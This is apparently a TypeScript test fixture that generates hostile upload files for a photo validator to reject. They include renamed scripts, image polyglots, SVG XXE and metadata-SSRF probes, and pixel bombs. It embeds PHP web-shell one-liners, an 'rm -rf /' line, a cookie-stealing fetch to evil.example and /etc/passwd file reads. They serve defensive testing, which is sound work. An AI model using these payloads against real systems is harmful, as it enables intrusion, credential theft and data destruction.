import { randomBytes } from "node:crypto";
import sharp from "sharp";
import { type PhotoRefusal, photoLimits } from "../../src/features/photos/photo.limits.ts";
import { brokenFiles } from "./broken-files.ts";
import {
  box,
  fileType,
  jpegSegment,
  pngChunk,
  riffChunk,
  text,
  webp,
  withJpegSegments,
  withPngChunks,
  zerosPng,
  zip,
} from "./bytes.ts";
import { room } from "./good-photos.ts";

export interface HostileFile {
  name: string;
  bytes: Buffer;
  /** The type that the browser would declare. */
  declaredType: string;
  refusal: PhotoRefusal;
}

/**
 * Files that must never become a photo, and why each is rejected. Generated here, so that the repository contains
 * nothing dangerous.
 */
export async function hostileFiles(): Promise<HostileFile[]> {
  const photos = {
    jpeg: room(),
    png: await sharp(room()).resize(400).png().toBuffer(),
    webp: await sharp(room()).resize(400).webp().toBuffer(),
    avif: await sharp(room()).resize(400).avif({ effort: 0 }).toBuffer(),
  };
  return [
    ...renamed(),
    ...(await otherImages()),
    ...polyglots(photos),
    ...animations(photos),
    ...bombs(),
    ...brokenFiles(photos),
  ];
}

export interface SoundPhotos {
  jpeg: Buffer;
  png: Buffer;
  webp: Buffer;
  avif: Buffer;
}

const as = (declaredType: string, refusal: PhotoRefusal, name: string, bytes: Buffer): HostileFile => ({
  name,
  bytes,
  declaredType,
  refusal,
});

function renamed(): HostileFile[] {
  const asJpeg = (name: string, bytes: Buffer) => as("image/jpeg", "notAnImage", name, bytes);
  return [
    asJpeg("php.jpg", text("<?php system($_GET['c']); ?>")),
    asJpeg("sh.jpg", text("#!/bin/sh\nrm -rf /\n")),
    asJpeg("html.jpg", text("<!doctype html><script>alert(document.cookie)</script>")),
    asJpeg("js.jpg", text("fetch('https://evil.example/' + document.cookie)")),
    asJpeg(
      "exe.jpg",
      Buffer.concat([text("MZ\x90\0"), Buffer.alloc(1000), text("This program cannot be run in DOS mode.")]),
    ),
    asJpeg("elf.jpg", Buffer.concat([text("\x7fELF\x02\x01\x01\0"), Buffer.alloc(1000)])),
    asJpeg("zip.jpg", zip("shell.php", text("<?php ?>"))),
    asJpeg("pdf.jpg", text("%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj")),
    asJpeg("mp4.jpg", Buffer.concat([fileType("isom", "isom", "mp42"), box("mdat", Buffer.alloc(1000))])),
    asJpeg("empty.jpg", Buffer.alloc(0)),
    asJpeg("one-byte.jpg", Buffer.from([0xff])),
    asJpeg("zeros.jpg", Buffer.alloc(photoLimits.bytes)),
    asJpeg("one-byte-in-front.jpg", Buffer.concat([text(" "), room()])),
    as(
      "image/jpeg",
      "tooLarge",
      "one-byte-too-large.jpg",
      Buffer.concat([room(), Buffer.alloc(photoLimits.bytes + 1 - room().length)]),
    ),
  ];
}

async function otherImages(): Promise<HostileFile[]> {
  const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"';
  return [
    as("image/svg+xml", "notAnImage", "script.svg", text(`${svg} onload="alert(1)"><script>alert(1)</script></svg>`)),
    as(
      "image/png",
      "notAnImage",
      "entity.svg",
      text(
        `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg}><text>&x;</text></svg>`,
      ),
    ),
    as(
      "image/png",
      "notAnImage",
      "billion-laughs.svg",
      text(`<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>${svg}><text>&b;</text></svg>`),
    ),
    as(
      "image/png",
      "notAnImage",
      "link.svg",
      text(`${svg}><image href="http://169.254.169.254/latest/meta-data/"/></svg>`),
    ),
    as("image/gif", "notAnImage", "script.gif", text("GIF89a/*\0\0\0\0\0\0*/=1;alert(1)")),
    as("image/gif", "notAnImage", "still.gif", await sharp(room()).resize(200).gif().toBuffer()),
    as("image/tiff", "notAnImage", "photo.tiff", await sharp(room()).resize(200).tiff().toBuffer()),
    as("image/bmp", "notAnImage", "photo.bmp", Buffer.concat([text("BM"), Buffer.alloc(200)])),
    as("image/x-icon", "notAnImage", "photo.ico", Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), Buffer.alloc(200)])),
    as(
      "image/jpeg",
      "notAnImage",
      "script.xbm",
      text("#define a_width 200\n#define a_height 200\nstatic char a_bits[] = { 0x00 };"),
    ),
    as(
      "image/jpeg",
      "notAnImage",
      "read-file.mvg",
      text("push graphic-context\nimage over 0,0 0,0 'label:@/etc/passwd'\npop graphic-context"),
    ),
    as(
      "image/heic",
      "heic",
      "iphone.heic",
      Buffer.concat([fileType("heic", "mif1", "heic"), box("meta", Buffer.alloc(100))]),
    ),
    as(
      "image/jpeg",
      "heic",
      "renamed-heic.jpg",
      Buffer.concat([fileType("mif1", "mif1", "heic", "hevc"), box("meta", Buffer.alloc(100))]),
    ),
  ];
}

const suspicious = (name: string, declaredType: string, bytes: Buffer) => as(declaredType, "suspicious", name, bytes);
const behind = (photo: Buffer, added: Buffer) => Buffer.concat([photo, added]);

function polyglots({ jpeg, png, webp: webpPhoto, avif }: SoundPhotos): HostileFile[] {
  const svg = text('<svg\nxmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>');
  return [
    suspicious("jpeg-zip.jpg", "image/jpeg", behind(jpeg, zip("a.html", text("hello")))),
    suspicious("jpeg-jar.jpg", "image/jpeg", behind(jpeg, zip("META-INF/MANIFEST.MF", text("Main-Class: Evil")))),
    suspicious(
      "php-in-comment.jpg",
      "image/jpeg",
      withJpegSegments(jpeg, jpegSegment(0xfe, text("<?php eval($_POST[0]); ?>"))),
    ),
    suspicious(
      "php-in-exif.jpg",
      "image/jpeg",
      withJpegSegments(jpeg, jpegSegment(0xe1, text("Exif\0\0MM\0*\0\0\0\x08\0\0<?PHP\tsystem(1);?>"))),
    ),
    suspicious("phar.jpg", "image/jpeg", behind(jpeg, text("<?=1; __HALT_COMPILER(); ?>\r\n"))),
    suspicious(
      "html-in-comment.jpg",
      "image/jpeg",
      withJpegSegments(jpeg, jpegSegment(0xfe, text("<HTML><body onload=alert(1)>"))),
    ),
    suspicious("pdf-behind.jpg", "image/jpeg", behind(jpeg, text("%PDF-1.4\n1 0 obj"))),
    suspicious("svg-behind.jpg", "image/jpeg", behind(jpeg, svg)),
    suspicious("rar-behind.jpg", "image/jpeg", behind(jpeg, text("Rar!\x1a\x07\x01\0"))),
    suspicious(
      "script-in-text.png",
      "image/png",
      withPngChunks(png, pngChunk("tEXt", text("Comment\0<ScRiPt>alert(1)</sCrIpT>"))),
    ),
    suspicious("html-behind.png", "image/png", behind(png, text("<!DOCTYPE html><body>"))),
    suspicious(
      "script-in-xmp.webp",
      "image/webp",
      webp(webpPhoto.subarray(12), riffChunk("XMP ", text("<script src=//evil.example></script>"))),
    ),
    suspicious("script-in-free-box.avif", "image/avif", behind(avif, box("free", text("<script>alert(1)</script>")))),
  ];
}

function animations({ png, webp: webpPhoto, avif }: SoundPhotos): HostileFile[] {
  const frame = Buffer.concat([Buffer.alloc(16), webpPhoto.subarray(12)]);
  const canvas = Buffer.from([0x02, 0, 0, 0, 0x8f, 0x01, 0, 0x0a, 0x01, 0]);
  const avis = Buffer.concat([fileType("avis", "avis", "avif", "msf1"), avif.subarray(avif.readUInt32BE(0))]);
  return [
    as(
      "image/webp",
      "animated",
      "animated.webp",
      webp(
        riffChunk("VP8X", canvas),
        riffChunk("ANIM", Buffer.alloc(6)),
        riffChunk("ANMF", frame),
        riffChunk("ANMF", frame),
      ),
    ),
    as(
      "image/png",
      "animated",
      "animated.png",
      withPngChunks(png, pngChunk("acTL", Buffer.from([0, 0, 0, 2, 0, 0, 0, 0]))),
    ),
    as("image/avif", "animated", "animated.avif", avis),
  ];
}

/** Small files that need much memory or time. They are valid otherwise: a decoder without limits would try. */
function bombs(): HostileFile[] {
  const asPng = (name: string, bytes: Buffer) => as("image/png", "tooManyPixels", name, bytes);
  return [
    asPng("50000x50000.png", zerosPng({ width: 50_000, height: 50_000, depth: 1, bitsPerPixel: 1 })),
    asPng("30000x30000.png", zerosPng({ width: 30_000, height: 30_000, bitsPerPixel: 8 })),
    as(
      "image/png",
      "damaged",
      "2-billion-wide.png",
      zerosPng({ width: 2 ** 31 - 1, height: 160, depth: 1, bitsPerPixel: 1 }).subarray(0, 10_000),
    ),
    // Within the pixel limit, but interlaced, so that rows cannot be read one by one, at eight bytes per pixel.
    asPng(
      "interlaced.png",
      zerosPng({ width: 7000, height: 7000, depth: 16, colour: 6, isInterlaced: true, bitsPerPixel: 64 }),
    ),
    as(
      "image/jpeg",
      "damaged",
      "random.jpg",
      Buffer.concat([room().subarray(0, 600), randomBytes(photoLimits.bytes - 600)]),
    ),
    as(
      "image/jpeg",
      "damaged",
      "only-comments.jpg",
      Buffer.concat([
        Buffer.from([0xff, 0xd8]),
        ...Array.from({ length: 230 }, () => jpegSegment(0xfe, Buffer.alloc(65_000))),
      ]),
    ),
  ];
}
